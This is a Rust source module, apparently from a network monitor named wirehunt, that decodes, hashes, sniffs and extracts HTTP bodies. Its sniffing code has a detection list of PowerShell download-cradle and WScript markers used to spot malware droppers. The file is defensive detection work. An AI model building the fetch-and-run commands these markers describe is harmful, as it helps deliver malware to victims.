//! HTTP bodies as files (Zeek files.log in spirit) → the `files` table, and `--extract-files`.
//!
//! The HTTP analyzer hands each body's de-chunked bytes to a [`FileBody`] as they arrive. The body's
//! content encoding (gzip, deflate as zlib or raw, br) is undone on the fly; the decoded bytes are
//! hashed (md5, sha1, sha256), counted, kept up to [`PREFIX`] bytes for MIME sniffing (the `infer`
//! crate, plus text rules for the scripts droppers serve), histogrammed over the first
//! [`ENTROPY_SPAN`] bytes for entropy, walked for ZIP entry names (macro-enabled Office documents,
//! archives carrying executables), searched for an OLE VBA project, and optionally written to disk.
//! No body is ever held whole in memory.
//!
//! Bounds (every byte is attacker-controlled): decoders are counted process-wide
//! ([`MAX_INFLATERS`] gzip/deflate, [`MAX_BROTLI`] brotli: a brotli window can be 16 MiB); a body
//! past the limit is hashed as sent and `decoded` says so. Decoding stops at [`DECODED_CAP`] bytes
//! or [`DECODED_RATIO`] times the encoded size (a decompression bomb, in any layer): the row is then cut with
//! `decode_cap`. Extraction keeps at most [`MAX_OPEN_EXTRACTS`] files open at once and writes at
//! most the configured cap per file.

use super::{ConnCtx, escape_bytes};
use crate::capture::hex;
use crate::record::{FileRecord, Record, RecordSink};
use sha1::Digest;
use std::io::Write;
use std::net::IpAddr;
use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

/// Decoded bytes kept for MIME sniffing and script rules.
pub const PREFIX: usize = 8 * 1024;
/// Decoded bytes the entropy is computed over.
pub const ENTROPY_SPAN: u64 = 64 * 1024;
/// gzip/deflate decoders alive at once, process-wide (~45 KiB each).
pub const MAX_INFLATERS: usize = 4096;
/// brotli decoders alive at once, process-wide (a window of up to 16 MiB each).
pub const MAX_BROTLI: usize = 16;
/// Decoded bytes per body at most, and at most this many times the encoded bytes.
pub const DECODED_CAP: u64 = 1 << 30;
pub const DECODED_RATIO: u64 = 1024;
/// Extraction files open at once.
pub const MAX_OPEN_EXTRACTS: usize = 256;
/// ZIP entry names kept per body.
const MAX_ENTRIES: usize = 32;

static INFLATERS: AtomicUsize = AtomicUsize::new(0);
static BROTLIS: AtomicUsize = AtomicUsize::new(0);
static OPEN_EXTRACTS: AtomicUsize = AtomicUsize::new(0);

/// A slot in a process-wide counter, released on drop.
struct Slot(&'static AtomicUsize);

impl Slot {
    fn take(c: &'static AtomicUsize, max: usize) -> Option<Slot> {
        c.fetch_update(Ordering::SeqCst, Ordering::SeqCst, |n| {
            (n < max).then_some(n + 1)
        })
        .ok()
        .map(|_| Slot(c))
    }
}

impl Drop for Slot {
    fn drop(&mut self) {
        self.0.fetch_sub(1, Ordering::SeqCst);
    }
}

/// `--extract-files DIR`: where bodies go and how much of each.
#[derive(Debug, Clone)]
pub struct Extract {
    pub dir: PathBuf,
    /// Bytes written per file at most (the row's hashes still cover the whole body).
    pub max_bytes: u64,
}

/// What the HTTP head said about a body.
#[derive(Debug, Default, Clone)]
pub struct BodyMeta {
    pub ts: i64,
    pub depth: u32,
    /// Sent by the client (a request body: an upload).
    pub is_orig: bool,
    pub declared_type: Option<String>,
    pub filename: Option<String>,
    pub content_encoding: Option<String>,
    pub total_bytes: Option<u64>,
}

/// Content encodings undone per body at most (`Content-Encoding: gzip, br` is two); a body naming
/// more is hashed as sent (`decoded` = false).
pub const MAX_LAYERS: usize = 3;

/// One layer of a body's content decoding, writing what it decodes into the next layer; the last
/// one is the hashing [`Sink`]. The layer that takes the bytes as sent undoes the encoding applied
/// last (`gzip, br` was gzipped, then brotli-compressed: brotli comes off first).
// the `Slot` fields are held for their Drop (the decoder's process-wide slot), never read;
// `Sink` (three digest states) is the large variant and the common one (most bodies are not
// encoded): boxing it would cost every body an allocation to save the few encoded ones some bytes
#[allow(dead_code, clippy::large_enum_variant)]
enum Layer {
    Sink(Sink),
    /// `deflate` is zlib-wrapped by the RFC and raw by many servers: decided on the first 2 bytes.
    DeflateUndecided(Box<Layer>, Vec<u8>, Slot),
    Gzip(flate2::write::GzDecoder<Box<Layer>>, Slot),
    Zlib(flate2::write::ZlibDecoder<Box<Layer>>, Slot),
    Raw(flate2::write::DeflateDecoder<Box<Layer>>, Slot),
    Brotli(
        Box<brotli_decompressor::DecompressorWriter<Box<Layer>>>,
        Slot,
    ),
    /// Only while a layer is being replaced.
    Taken,
}

impl Write for Layer {
    fn write(&mut self, b: &[u8]) -> std::io::Result<usize> {
        match self {
            Layer::Sink(s) => s.write(b),
            Layer::DeflateUndecided(_, head, _) if head.len() + b.len() < 2 => {
                head.extend_from_slice(b);
                Ok(b.len())
            }
            Layer::DeflateUndecided(..) => {
                let Layer::DeflateUndecided(inner, mut head, slot) =
                    std::mem::replace(self, Layer::Taken)
                else {
                    return Ok(0);
                };
                head.extend_from_slice(b);
                let zlib = matches!(head.as_slice(), [a, b, ..] if a & 0x0f == 8 && (u16::from(*a) << 8 | u16::from(*b)) % 31 == 0);
                *self = if zlib {
                    Layer::Zlib(flate2::write::ZlibDecoder::new(inner), slot)
                } else {
                    Layer::Raw(flate2::write::DeflateDecoder::new(inner), slot)
                };
                self.write_all(&head)?;
                Ok(b.len())
            }
            Layer::Gzip(d, _) => d.write(b),
            Layer::Zlib(d, _) => d.write(b),
            Layer::Raw(d, _) => d.write(b),
            Layer::Brotli(d, _) => d.write(b),
            Layer::Taken => Ok(b.len()),
        }
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

impl Layer {
    /// The layers for a `Content-Encoding` value (None: an encoding wirehunt does not undo, too
    /// many of them, or no decoder slot free; the body is then hashed as sent).
    // the error hands the sink back unboxed, as it came (see `Layer`)
    #[allow(clippy::result_large_err)]
    fn for_encodings(sink: Sink, encodings: &[&str]) -> Result<Layer, Sink> {
        if encodings.len() > MAX_LAYERS
            || !encodings
                .iter()
                .all(|e| matches!(*e, "gzip" | "x-gzip" | "deflate" | "br"))
        {
            return Err(sink);
        }
        let mut layer = Layer::Sink(sink);
        for e in encodings {
            let slot = if *e == "br" {
                Slot::take(&BROTLIS, MAX_BROTLI)
            } else {
                Slot::take(&INFLATERS, MAX_INFLATERS)
            };
            let Some(slot) = slot else {
                return Err(layer.abandon());
            };
            let inner = Box::new(layer);
            layer = match *e {
                "br" => Layer::Brotli(
                    Box::new(brotli_decompressor::DecompressorWriter::new(inner, 4096)),
                    slot,
                ),
                "deflate" => Layer::DeflateUndecided(inner, Vec::new(), slot),
                _ => Layer::Gzip(flate2::write::GzDecoder::new(inner), slot),
            };
        }
        Ok(layer)
    }

    /// The hashing sink at the bottom.
    fn sink_mut(&mut self) -> Option<&mut Sink> {
        match self {
            Layer::Sink(s) => Some(s),
            Layer::DeflateUndecided(i, _, _) => i.sink_mut(),
            Layer::Gzip(d, _) => d.get_mut().sink_mut(),
            Layer::Zlib(d, _) => d.get_mut().sink_mut(),
            Layer::Raw(d, _) => d.get_mut().sink_mut(),
            Layer::Brotli(d, _) => d.get_mut().sink_mut(),
            Layer::Taken => None,
        }
    }

    /// Stop decoding: the sink with what it already holds.
    fn abandon(self) -> Sink {
        let take = |l: &mut Box<Layer>| std::mem::replace(l.as_mut(), Layer::Taken).abandon();
        match self {
            Layer::Sink(s) => s,
            Layer::DeflateUndecided(i, _, _) => i.abandon(),
            Layer::Gzip(mut d, _) => take(d.get_mut()),
            Layer::Zlib(mut d, _) => take(d.get_mut()),
            Layer::Raw(mut d, _) => take(d.get_mut()),
            Layer::Brotli(d, _) => match d.into_inner() {
                Ok(i) | Err(i) => i.abandon(),
            },
            Layer::Taken => Sink::new(None),
        }
    }

    /// The body ended: flush every layer into the next; the sink, and whether every layer ended
    /// cleanly (a truncated stream does not).
    fn finish(self) -> (Sink, bool) {
        let rest = |l: &mut Box<Layer>, ok: bool| {
            let (s, inner_ok) = std::mem::replace(l.as_mut(), Layer::Taken).finish();
            (s, ok && inner_ok)
        };
        match self {
            Layer::Sink(s) => (s, true),
            // fewer than 2 bytes: nothing decodable
            Layer::DeflateUndecided(i, head, _) => {
                let (s, ok) = i.finish();
                (s, ok && head.is_empty())
            }
            Layer::Gzip(mut d, _) => {
                let ok = d.try_finish().is_ok();
                rest(d.get_mut(), ok)
            }
            Layer::Zlib(mut d, _) => {
                let ok = d.try_finish().is_ok();
                rest(d.get_mut(), ok)
            }
            Layer::Raw(mut d, _) => {
                let ok = d.try_finish().is_ok();
                rest(d.get_mut(), ok)
            }
            Layer::Brotli(mut d, _) => {
                let closed = d.close().is_ok();
                match d.into_inner() {
                    Ok(i) => {
                        let (s, ok) = i.finish();
                        (s, closed && ok)
                    }
                    Err(i) => (i.abandon(), false),
                }
            }
            Layer::Taken => (Sink::new(None), false),
        }
    }
}

enum Decoder {
    /// Decoding (or passing through): the top layer takes the body as sent.
    Live(Layer),
    /// Decoding failed or hit its cap: the sink kept what came before.
    Broken(Sink),
    Taken,
}

/// One body being read.
pub struct FileBody {
    meta: BodyMeta,
    fuid: String,
    dec: Decoder,
    /// Content encoding undone: None when none was declared (or identity).
    decoded: Option<bool>,
    wire_bytes: u64,
    missing_bytes: u64,
    cut: Option<&'static str>,
}

/// The decoded stream's consumer: hashes, counts, sniffing state, extraction.
struct Sink {
    md5: md5::Md5,
    sha1: sha1::Sha1,
    sha256: sha2::Sha256,
    seen: u64,
    cap: u64,
    capped: bool,
    prefix: Vec<u8>,
    hist: Box<[u32; 256]>,
    walk_decided: bool,
    zip: Option<ZipWalk>,
    ole_vba: Option<(bool, Vec<u8>)>,
    extract: Option<ExtractFile>,
}

struct ExtractFile {
    tmp: PathBuf,
    dir: PathBuf,
    file: std::io::BufWriter<std::fs::File>,
    left: u64,
    truncated: bool,
    failed: bool,
    _slot: Slot,
}

impl Write for Sink {
    fn write(&mut self, b: &[u8]) -> std::io::Result<usize> {
        let room = self.cap.saturating_sub(self.seen);
        if b.is_empty() {
            return Ok(0);
        }
        if self.capped || room == 0 {
            self.capped = true;
            return Err(std::io::Error::other("decoded size cap"));
        }
        let n = (b.len() as u64).min(room) as usize;
        self.feed(b.get(..n).unwrap_or_default());
        Ok(n)
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

const OLE_MAGIC: &[u8] = &[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
/// "_VBA_PROJECT" in UTF-16LE, the stream name of a VBA project inside an OLE compound file.
const VBA_UTF16: &[u8] = b"_\0V\0B\0A\0_\0P\0R\0O\0J\0E\0C\0T\0";

impl Sink {
    fn new(extract: Option<ExtractFile>) -> Sink {
        Sink {
            md5: md5::Md5::new(),
            sha1: sha1::Sha1::new(),
            sha256: sha2::Sha256::new(),
            seen: 0,
            cap: u64::MAX,
            capped: false,
            prefix: Vec::new(),
            hist: Box::new([0; 256]),
            walk_decided: false,
            zip: None,
            ole_vba: None,
            extract,
        }
    }

    fn feed(&mut self, b: &[u8]) {
        if b.is_empty() {
            return;
        }
        let start = self.seen;
        self.md5.update(b);
        self.sha1.update(b);
        self.sha256.update(b);
        if start < ENTROPY_SPAN {
            let n = (ENTROPY_SPAN - start).min(b.len() as u64) as usize;
            // a slice, not `take(n)`: one bound for the loop (and a u8 index into 256 counters
            // needs no check)
            let hist: &mut [u32; 256] = &mut self.hist;
            for &c in crate::bytes::head(b, n) {
                if let Some(h) = hist.get_mut(usize::from(c)) {
                    *h += 1;
                }
            }
        }
        let mut rest = b;
        if self.prefix.len() < PREFIX {
            let n = (PREFIX - self.prefix.len()).min(b.len());
            self.prefix
                .extend_from_slice(b.get(..n).unwrap_or_default());
            rest = b.get(n..).unwrap_or_default();
        }
        if !self.walk_decided && self.prefix.len() >= OLE_MAGIC.len() {
            // the walkers start once the magic is known, on everything seen so far
            self.walk_decided = true;
            if self.prefix.starts_with(b"PK\x03\x04") {
                self.zip = Some(ZipWalk::default());
            }
            if self.prefix.starts_with(OLE_MAGIC) {
                self.ole_vba = Some((false, Vec::new()));
            }
            let seen = std::mem::take(&mut self.prefix);
            self.walk(&seen);
            self.prefix = seen;
            self.walk(rest);
        } else if self.walk_decided {
            self.walk(b);
        }
        if let Some(x) = self.extract.as_mut()
            && !x.failed
            && !x.truncated
        {
            let n = x.left.min(b.len() as u64) as usize;
            if x.file.write_all(b.get(..n).unwrap_or_default()).is_err() {
                x.failed = true;
            }
            x.left -= n as u64;
            if n < b.len() {
                x.truncated = true;
            }
        }
        self.seen += b.len() as u64;
    }

    fn walk(&mut self, b: &[u8]) {
        if let Some(z) = self.zip.as_mut() {
            z.feed(b);
        }
        if let Some((found, carry)) = self.ole_vba.as_mut()
            && !*found
        {
            carry.extend_from_slice(b);
            if memchr::memmem::find(carry, VBA_UTF16).is_some() {
                *found = true;
                carry.clear();
            } else {
                let keep = VBA_UTF16.len() - 1;
                if carry.len() > keep {
                    carry.drain(..carry.len() - keep);
                }
            }
        }
    }

    /// `hex` or `base64` when every byte of the first 64 KiB is of that alphabet (line breaks
    /// aside; base64 also takes `-_` and `=` padding, and must mix upper case, lower case and
    /// digits as encoded bytes do): binary data carried as text. None under 256 bytes.
    fn text_encoding(&self) -> Option<&'static str> {
        let h = &self.hist;
        // a byte's count (the histogram has 256 entries: `get` never misses)
        let n = |b: u8| h.get(usize::from(b)).map_or(0, |&c| u64::from(c));
        let total: u64 = h.iter().map(|&c| u64::from(c)).sum();
        let newlines = n(b'\r') + n(b'\n');
        if total - newlines < 256 {
            return None;
        }
        let only = |ok: &dyn Fn(u8) -> bool| {
            (0..=255u8).all(|b| n(b) == 0 || b == b'\r' || b == b'\n' || ok(b))
        };
        let any = |r: std::ops::RangeInclusive<u8>| r.into_iter().any(|b| n(b) > 0);
        if only(&|b| b.is_ascii_hexdigit()) && any(b'0'..=b'9') {
            return Some("hex");
        }
        if only(&|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_'))
            && any(b'A'..=b'Z')
            && any(b'a'..=b'z')
            && any(b'0'..=b'9')
        {
            return Some("base64");
        }
        None
    }

    fn entropy(&self) -> Option<f64> {
        let total: u64 = self.hist.iter().map(|&c| c as u64).sum();
        if total == 0 {
            return None;
        }
        let t = total as f64;
        Some(
            self.hist
                .iter()
                .filter(|&&c| c > 0)
                .map(|&c| {
                    let p = c as f64 / t;
                    -p * p.log2()
                })
                .sum::<f64>()
                + 0.0, // -0.0 (one symbol) reads as 0
        )
    }
}

/// Walks a ZIP's local file headers as the bytes stream by, collecting entry names (the central
/// directory at the end is not needed). Stops at the first header it cannot skip (a streamed entry
/// with its size in a trailing data descriptor) or at the central directory.
#[derive(Default)]
struct ZipWalk {
    state: ZipState,
    head: Vec<u8>,
    names: Vec<String>,
    entries: u64,
    done: bool,
    /// Extra field and data bytes after the current entry's name.
    pending_skip: u64,
}

#[derive(Default, Clone, Copy)]
enum ZipState {
    #[default]
    Header,
    Name(usize, usize),
    Skip(u64),
}

impl ZipWalk {
    fn feed(&mut self, mut b: &[u8]) {
        while !b.is_empty() && !self.done {
            match self.state {
                ZipState::Header => {
                    let need = 30 - self.head.len();
                    let n = need.min(b.len());
                    self.head.extend_from_slice(b.get(..n).unwrap_or_default());
                    b = b.get(n..).unwrap_or_default();
                    if self.head.len() < 30 {
                        return;
                    }
                    let h = std::mem::take(&mut self.head);
                    let u16at = |i: usize| crate::bytes::le16(&h, i).map_or(0, usize::from);
                    let u32at = |i: usize| crate::bytes::le32(&h, i).unwrap_or(0);
                    if !h.starts_with(b"PK\x03\x04") {
                        self.done = true;
                        return;
                    }
                    let flags = u16at(6);
                    let csize = u32at(18) as u64;
                    // a streamed entry (size in a trailing descriptor): its name is read, the
                    // walk ends after it
                    let streamed = flags & 8 != 0 && csize == 0;
                    self.entries += 1;
                    self.head.clear();
                    // name, then extra field + data skipped together
                    let name_len = u16at(26);
                    let skip = if streamed {
                        u64::MAX
                    } else {
                        u16at(28) as u64 + csize
                    };
                    self.state = ZipState::Name(name_len, 0);
                    self.pending_skip = skip;
                }
                ZipState::Name(len, got) => {
                    let n = (len - got).min(b.len());
                    if self.head.len() < 256 {
                        let k = n.min(256 - self.head.len());
                        self.head.extend_from_slice(b.get(..k).unwrap_or_default());
                    }
                    b = b.get(n..).unwrap_or_default();
                    if got + n < len {
                        self.state = ZipState::Name(len, got + n);
                        return;
                    }
                    let name = std::mem::take(&mut self.head);
                    if self.names.len() < MAX_ENTRIES {
                        self.names.push(escape_bytes(&name));
                    }
                    self.state = ZipState::Skip(self.pending_skip);
                    if self.pending_skip == u64::MAX {
                        self.done = true;
                    }
                }
                ZipState::Skip(left) => {
                    let n = left.min(b.len() as u64) as usize;
                    b = b.get(n..).unwrap_or_default();
                    self.state = if left == n as u64 {
                        ZipState::Header
                    } else {
                        ZipState::Skip(left - n as u64)
                    };
                }
            }
        }
    }
}

/// Deterministic file id: "F" + 17 base62 characters from the connection uid, the transaction and
/// the direction (same input, same fuids).
pub fn make_fuid(uid: &str, depth: u32, is_orig: bool) -> String {
    let d = sha1::Sha1::new()
        .chain_update(uid.as_bytes())
        .chain_update(depth.to_le_bytes())
        .chain_update([is_orig as u8])
        .finalize();
    let v = d
        .iter()
        .take(16)
        .fold(0u128, |acc, &b| (acc << 8) | b as u128);
    crate::flow::base62_id('F', v)
}

/// The file name a head gives a body: Content-Disposition's `filename*=` or `filename=`, else the
/// URI path's last segment (none when the path ends in `/`). Escaped text, never a path to open.
pub fn body_filename(disposition: Option<&[u8]>, uri: Option<&str>) -> Option<String> {
    if let Some(d) = disposition {
        let text = String::from_utf8_lossy(d);
        let mut plain = None;
        for part in text.split(';') {
            let part = part.trim();
            let Some((k, v)) = part.split_once('=') else {
                continue;
            };
            let k = k.trim().to_ascii_lowercase();
            let v = v.trim().trim_matches('"');
            if k == "filename*" {
                // RFC 5987: charset'lang'percent-encoded
                let enc = v.rsplit('\'').next().unwrap_or(v);
                let name = percent_decode(enc);
                if !name.is_empty() {
                    return Some(escape_bytes(&name));
                }
            } else if k == "filename" && !v.is_empty() {
                plain = Some(escape_bytes(v.as_bytes()));
            }
        }
        if plain.is_some() {
            return plain;
        }
    }
    let uri = uri?;
    let path = uri.split(['?', '#']).next().unwrap_or("");
    // absolute-form targets (proxies): drop the scheme and authority
    let path = match path.find("://") {
        Some(i) => path
            .get(i + 3..)
            .and_then(|r| r.find('/').and_then(|j| r.get(j..)))
            .unwrap_or(""),
        None => path,
    };
    let last = path.rsplit('/').next().unwrap_or("");
    (!last.is_empty()).then(|| escape_bytes(&percent_decode(last)))
}

fn percent_decode(s: &str) -> Vec<u8> {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while let Some(&c) = b.get(i) {
        if c == b'%'
            && let Some(h) = b.get(i + 1..i + 3)
            && let Ok(h) = std::str::from_utf8(h)
            && let Ok(v) = u8::from_str_radix(h, 16)
        {
            out.push(v);
            i += 3;
            continue;
        }
        out.push(c);
        i += 1;
    }
    out
}

/// What a body is, for the detectors: a coarse class and a MIME type.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Sniffed {
    pub mime: Option<String>,
    pub class: &'static str,
}

/// Extensions that run when opened (Windows and scripts), checked on archive entries and names.
const RUNNABLE_EXT: &[&str] = &[
    "exe", "dll", "scr", "com", "pif", "cpl", "msi", "sys", "js", "jse", "vbs", "vbe", "wsf",
    "wsh", "hta", "ps1", "psm1", "bat", "cmd", "lnk", "jar", "elf", "sh", "apk", "app", "iso",
    "img",
];

fn runnable_name(name: &str) -> bool {
    name.rsplit_once('.').is_some_and(|(_, e)| {
        let e = e.to_ascii_lowercase();
        RUNNABLE_EXT.contains(&e.as_str())
    })
}

/// Classify a body from its first bytes (and, for ZIP and OLE, what the walkers saw).
fn sniff(prefix: &[u8], zip_names: &[String], ole_vba: bool) -> Sniffed {
    let t = infer::get(prefix);
    let mime = t.map(|t| t.mime_type().to_string());
    let m = mime.as_deref().unwrap_or("");
    let class = match m {
        "application/vnd.microsoft.portable-executable"
        | "application/x-executable"
        | "application/x-mach-binary"
        | "application/x-msdownload"
        | "application/vnd.android.dex"
        | "application/vnd.android.dey"
        | "application/wasm" => "executable",
        "application/java-archive" | "application/x-java-applet" | "application/java" => "java",
        "application/x-shockwave-flash" => "flash",
        "text/x-shellscript" => "script",
        _ if ole_vba => "office_macro",
        _ if zip_names.iter().any(|n| {
            let l = n.to_ascii_lowercase();
            l.ends_with("vbaproject.bin") || l.ends_with(".bin") && l.contains("vba")
        }) =>
        {
            "office_macro"
        }
        _ if zip_names
            .iter()
            .any(|n| n.eq_ignore_ascii_case("META-INF/MANIFEST.MF"))
            && zip_names.iter().any(|n| n.ends_with(".class")) =>
        {
            "java"
        }
        _ if zip_names.iter().any(|n| runnable_name(n)) => "archive_executable",
        "application/zip"
        | "application/vnd.rar"
        | "application/x-7z-compressed"
        | "application/gzip"
        | "application/x-bzip2"
        | "application/x-xz"
        | "application/x-tar"
        | "application/vnd.ms-cab-compressed"
        | "application/zstd" => "archive",
        "application/x-ole-storage"
        | "application/msword"
        | "application/vnd.ms-excel"
        | "application/vnd.ms-powerpoint"
        | "application/rtf"
        | "application/pdf" => "document",
        // DER: OCSP responses, CRLs and certificates that CryptoAPI and browsers fetch over HTTP
        "application/x-x509-ca-cert" => "certificate",
        m if m.starts_with("application/vnd.openxmlformats")
            || m.starts_with("application/vnd.oasis") =>
        {
            "document"
        }
        m if m.starts_with("image/") || m.starts_with("audio/") || m.starts_with("video/") => {
            "media"
        }
        m if m.starts_with("font/") || m.starts_with("application/font") => "media",
        _ => "",
    };
    if !class.is_empty() {
        return Sniffed { mime, class };
    }
    // text: the scripts droppers serve, then markup and plain text
    let text = prefix
        .iter()
        .take(PREFIX)
        .all(|&c| c >= 0x20 || c == b'\n' || c == b'\r' || c == b'\t' || c == 0x0c || c >= 0x80);
    if !text || prefix.is_empty() {
        return Sniffed {
            mime,
            class: if prefix.is_empty() {
                "empty"
            } else {
                "unknown"
            },
        };
    }
    // the markers are ASCII: search the prefix's bytes lower-cased (no UTF-8 validation, no
    // String), each marker with its vectorised searcher built once
    let low = prefix.to_ascii_lowercase();
    let has = |m: Marker| {
        FINDERS
            .get(m as usize)
            .is_some_and(|f| f.find(&low).is_some())
    };
    let start = trim_start_whitespace(&low);
    let markup =
        has(Marker::Html) || has(Marker::Doctype) || has(Marker::Head) || has(Marker::Body);
    let (script, smime) = if has(Marker::HtaApplication) {
        (true, "application/hta")
    } else if has(Marker::InvokeExpression)
        || has(Marker::FromBase64String)
        || has(Marker::DownloadString)
        || has(Marker::NetWebClient)
        || (has(Marker::PowerShell)
            && (has(Marker::DashEnc) || has(Marker::DashE) || has(Marker::Hidden)))
    {
        (true, "text/x-powershell")
    } else if !markup
        && (has(Marker::WscriptShell) || has(Marker::CreateObject) || has(Marker::ActiveXObject))
    {
        if has(Marker::ActiveXObject) || has(Marker::Var) || has(Marker::Function) {
            (true, "application/x-jscript")
        } else {
            (true, "text/vbscript")
        }
    } else if start.starts_with(b"@echo off") {
        (true, "application/x-bat")
    } else {
        (false, "")
    };
    if script {
        return Sniffed {
            mime: Some(smime.to_string()),
            class: "script",
        };
    }
    let (m, class) = if markup {
        ("text/html", "html")
    } else if start.starts_with(b"<?xml") || start.starts_with(b"<svg") {
        ("text/xml", "text")
    } else if start.starts_with(b"{") || start.starts_with(b"[") {
        ("application/json", "text")
    } else {
        ("text/plain", "text")
    };
    Sniffed {
        mime: mime.or(Some(m.to_string())),
        class,
    }
}

/// The text markers [`sniff`] looks for (their text lower case), each with a searcher built once:
/// building a memmem searcher costs more than running it over an 8 KiB prefix. Named by a variant
/// (not looked up by their text, which cost as much as the searches).
#[derive(Clone, Copy)]
enum Marker {
    Html,
    Doctype,
    Head,
    Body,
    HtaApplication,
    InvokeExpression,
    FromBase64String,
    DownloadString,
    NetWebClient,
    PowerShell,
    DashEnc,
    DashE,
    Hidden,
    WscriptShell,
    CreateObject,
    ActiveXObject,
    Var,
    Function,
}

impl Marker {
    const ALL: [Marker; 18] = [
        Marker::Html,
        Marker::Doctype,
        Marker::Head,
        Marker::Body,
        Marker::HtaApplication,
        Marker::InvokeExpression,
        Marker::FromBase64String,
        Marker::DownloadString,
        Marker::NetWebClient,
        Marker::PowerShell,
        Marker::DashEnc,
        Marker::DashE,
        Marker::Hidden,
        Marker::WscriptShell,
        Marker::CreateObject,
        Marker::ActiveXObject,
        Marker::Var,
        Marker::Function,
    ];

    fn text(self) -> &'static str {
        match self {
            Marker::Html => "<html",
            Marker::Doctype => "<!doctype",
            Marker::Head => "<head",
            Marker::Body => "<body",
            Marker::HtaApplication => "<hta:application",
            Marker::InvokeExpression => "invoke-expression",
            Marker::FromBase64String => "frombase64string(",
            Marker::DownloadString => "downloadstring(",
            Marker::NetWebClient => "net.webclient",
            Marker::PowerShell => "powershell",
            Marker::DashEnc => " -enc",
            Marker::DashE => " -e ",
            Marker::Hidden => "hidden",
            Marker::WscriptShell => "wscript.shell",
            Marker::CreateObject => "createobject(",
            Marker::ActiveXObject => "activexobject(",
            Marker::Var => "var ",
            Marker::Function => "function",
        }
    }
}

/// One searcher per [`Marker`], in the order of its variants.
static FINDERS: std::sync::LazyLock<Vec<memchr::memmem::Finder<'static>>> =
    std::sync::LazyLock::new(|| {
        Marker::ALL
            .iter()
            .map(|m| memchr::memmem::Finder::new(m.text().as_bytes()))
            .collect()
    });

/// `b` without its leading white space as `str::trim_start` counts it (Unicode White_Space, UTF-8
/// encoded; bytes that are not UTF-8 end it, as their U+FFFD replacement would).
fn trim_start_whitespace(mut b: &[u8]) -> &[u8] {
    while let Some(&c) = b.first() {
        let n = if c < 0x80 {
            1
        } else if c >= 0xf0 {
            4
        } else if c >= 0xe0 {
            3
        } else {
            2
        };
        let ch = b
            .get(..n)
            .and_then(|p| std::str::from_utf8(p).ok())
            .and_then(|p| p.chars().next());
        match ch {
            Some(ch) if ch.is_whitespace() => b = b.get(n..).unwrap_or_default(),
            _ => break,
        }
    }
    b
}

/// Longest body [`text_address`] reads: an IP-echo answer is an address and perhaps a label or a
/// little markup; anything longer says more than the caller's address.
pub const ECHO_MAX: usize = 256;

/// The one IP address a short text body names, markup and labels aside: what an IP-echo service
/// answers (`203.0.113.9`, `Current IP Address: 203.0.113.9` in a bare HTML page, `{"ip":"..."}`).
/// None for a body longer than [`ECHO_MAX`], one that is not text, or one naming no address or two
/// different ones, or naming one as a URL's host (`http://192.0.2.1/`: a link, not an answer). Tokens
/// are runs of hex digits, dots and colons; a trailing dot or colon is punctuation; `::` alone is no
/// address.
pub fn text_address(body: &[u8]) -> Option<IpAddr> {
    if body.is_empty() || body.len() > ECHO_MAX {
        return None;
    }
    let text = std::str::from_utf8(body).ok()?;
    if text
        .chars()
        .any(|c| c.is_control() && !matches!(c, '\n' | '\r' | '\t'))
    {
        return None;
    }
    // markup aside: tag names and attributes are not the answer
    let mut bare = String::with_capacity(text.len());
    let mut in_tag = false;
    for c in text.chars() {
        match c {
            '<' => in_tag = true,
            '>' if in_tag => {
                in_tag = false;
                bare.push(' ');
            }
            _ if !in_tag => bare.push(c),
            _ => {}
        }
    }
    let mut found: Option<IpAddr> = None;
    for tok in bare.split(|c: char| !(c.is_ascii_hexdigit() || c == '.' || c == ':')) {
        // where the token starts in `bare` (split hands out subslices of it)
        let start = (tok.as_ptr() as usize).saturating_sub(bare.as_ptr() as usize);
        let tok = tok.trim_end_matches(['.', ':']);
        let Ok(a) = tok.parse::<IpAddr>() else {
            continue;
        };
        if a.is_unspecified() {
            continue;
        }
        if bare
            .get(..start)
            .is_some_and(|b| b.ends_with("//") || b.ends_with('@'))
        {
            return None;
        }
        match found {
            Some(f) if f != a => return None,
            _ => found = Some(a),
        }
    }
    found
}

impl FileBody {
    /// A body starts. `extract`: where to write it, if extraction is on.
    pub fn new(meta: BodyMeta, ctx: &ConnCtx, extract: Option<&Arc<Extract>>) -> FileBody {
        let fuid = make_fuid(&ctx.uid, meta.depth, meta.is_orig);
        let ext = extract.and_then(|x| open_extract(x, &fuid));
        let sink = Sink::new(ext);
        // `gzip, br`: every encoding in the order applied ("identity" is none)
        let encodings: Vec<String> = meta
            .content_encoding
            .as_deref()
            .unwrap_or("")
            .split(',')
            .map(|e| e.trim().to_ascii_lowercase())
            .filter(|e| !e.is_empty() && e != "identity")
            .collect();
        let names: Vec<&str> = encodings.iter().map(String::as_str).collect();
        let (dec, decoded) = if names.is_empty() {
            (Decoder::Live(Layer::Sink(sink)), None)
        } else {
            match Layer::for_encodings(sink, &names) {
                Ok(l) => (Decoder::Live(l), Some(true)),
                Err(sink) => (Decoder::Live(Layer::Sink(sink)), Some(false)),
            }
        };
        FileBody {
            meta,
            fuid,
            dec,
            decoded,
            wire_bytes: 0,
            missing_bytes: 0,
            cut: None,
        }
    }

    pub fn fuid(&self) -> &str {
        &self.fuid
    }

    /// Body bytes as sent (after de-chunking).
    pub fn write(&mut self, b: &[u8]) {
        if b.is_empty() {
            return;
        }
        self.wire_bytes += b.len() as u64;
        if self.cut.is_some_and(|c| c != "gap") {
            return;
        }
        let cap = DECODED_CAP.min(self.wire_bytes.saturating_mul(DECODED_RATIO).max(1 << 20));
        let res = match &mut self.dec {
            Decoder::Live(l) => {
                if let Some(s) = l.sink_mut() {
                    s.cap = cap;
                }
                l.write_all(b)
            }
            Decoder::Broken(_) | Decoder::Taken => Ok(()),
        };
        if res.is_err() {
            self.break_decoder();
        }
    }

    /// Decoding failed: keep the sink, say why.
    fn break_decoder(&mut self) {
        let sink = match std::mem::replace(&mut self.dec, Decoder::Taken) {
            Decoder::Live(l) => l.abandon(),
            Decoder::Broken(s) => s,
            Decoder::Taken => return,
        };
        self.cut = Some(if sink.capped {
            "decode_cap"
        } else {
            "decode_error"
        });
        self.dec = Decoder::Broken(sink);
    }

    /// `len` body bytes will never be seen.
